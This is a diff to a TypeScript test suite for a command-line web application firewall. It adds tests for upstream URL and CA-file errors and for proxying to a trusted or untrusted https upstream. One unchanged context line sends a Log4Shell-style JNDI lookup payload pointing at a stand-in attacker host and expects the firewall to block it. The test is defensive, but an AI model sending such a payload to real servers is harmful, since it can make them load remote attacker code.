@@ -6,6 +6,7 @@
 import { spawn, spawnSync } from 'node:child_process';
 import { existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { createServer, request } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
@@ -14,6 +15,7 @@ import { parseFtwOverrides } from '@bulwark/seclang';
 import { CLI, runCli } from './helpers/run-cli.js';
 
 const CRS = resolve(import.meta.dirname, '../../shared/data/crs');
+const TLS_CERT = resolve(import.meta.dirname, '../packages/seclang/test/fixtures/tls/upstream.crt');
 
 const freePort = (): Promise<number> =>
   new Promise((ok) => {
@@ -50,6 +52,21 @@ describe('bulwark waf: rule errors', () => {
     expect(r.status).toBe(2);
     expect(r.stderr.trim().split('\n')).toHaveLength(1);
     expect(r.stderr).toMatch(/--upstream-timeout.*'soon' is not a number of seconds above 0/);
+  });
+
+  it('upstream URL and CA mistakes are one usage line each, exit 2', () => {
+    const cases: [string[], RegExp][] = [
+      [['--upstream', 'ftp://127.0.0.1:9'], /--upstream.*the upstream is http:\/\/ or https:\/\//],
+      [['--upstream', 'http://127.0.0.1:9', '--upstream-ca', TLS_CERT], /--upstream-ca.*only applies to an https:\/\/ upstream/],
+      [['--upstream', 'https://127.0.0.1:9', '--upstream-ca', '/nonexistent/ca.pem'], /\/nonexistent\/ca\.pem.*cannot read the --upstream-ca file/],
+      [['--upstream', 'https://127.0.0.1:9', '--upstream-ca', resolve(import.meta.dirname, '../packages/seclang/test/fixtures/tls/README.md')], /README\.md.*no PEM certificate/],
+    ];
+    for (const [args, message] of cases) {
+      const r = runCli(['waf', ...args, '--rules', CRS]);
+      expect(r.status).toBe(2);
+      expect(r.stderr.trim().split('\n')).toHaveLength(1);
+      expect(r.stderr).toMatch(message);
+    }
   });
 
   it('a failing go-ftw test is listed and the run exits 1', () => {
@@ -146,6 +163,46 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
       expect((await get('/', { 'x-api-version': '${jndi:ldap://attacker.example/a}' })).status).toBe(403);
     } finally {
       child.kill('SIGTERM');
+      upstream.close();
+    }
+  }, 60_000);
+
+  it('proxies to an https upstream it trusts through --upstream-ca, and says why it refuses one it does not', async () => {
+    const upstream = createHttpsServer({ cert: readFileSync(TLS_CERT), key: readFileSync(TLS_CERT.replace(/crt$/, 'key')) }, (req, res) => res.end(`tls upstream saw ${req.url ?? ''}`));
+    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
+    const upstreamUrl = `https://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
+    const dir = mkdtempSync(join(tmpdir(), 'waf-tls-'));
+    writeFileSync(join(dir, 'rules.conf'), 'SecRuleEngine On\n');
+    const children: ReturnType<typeof spawn>[] = [];
+    const start = async (extra: string[]): Promise<{ port: number; stderr: () => string }> => {
+      const port = await freePort();
+      const child = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${port}`, '--upstream', upstreamUrl, '--rules', join(dir, 'rules.conf'), ...extra], { stdio: ['ignore', 'ignore', 'pipe'] });
+      children.push(child);
+      let stderr = '';
+      child.stderr?.on('data', (d: Buffer) => (stderr += d.toString()));
+      await ready(child);
+      return { port, stderr: () => stderr };
+    };
+    const get = (port: number): Promise<{ status: number; body: string }> =>
+      new Promise((ok, fail) => {
+        request({ host: '127.0.0.1', port, path: '/orders?id=7' }, (res) => {
+          let body = '';
+          res.on('data', (c: Buffer) => (body += c.toString()));
+          res.on('end', () => ok({ status: res.statusCode ?? 0, body }));
+        })
+          .on('error', fail)
+          .end();
+      });
+    try {
+      const trusted = await start(['--upstream-ca', TLS_CERT]);
+      expect(await get(trusted.port)).toEqual({ status: 200, body: 'tls upstream saw /orders?id=7' });
+      const untrusted = await start([]);
+      expect((await get(untrusted.port)).status).toBe(502);
+      expect((await get(untrusted.port)).status).toBe(502);
+      // One line per kind of failure, not one per request.
+      expect(untrusted.stderr().match(/bulwark waf: upstream https:\/\/127\.0\.0\.1:\d+: self[- ]signed certificate/gi)).toHaveLength(1);
+    } finally {
+      for (const child of children) child.kill('SIGTERM');
       upstream.close();
     }
   }, 60_000);
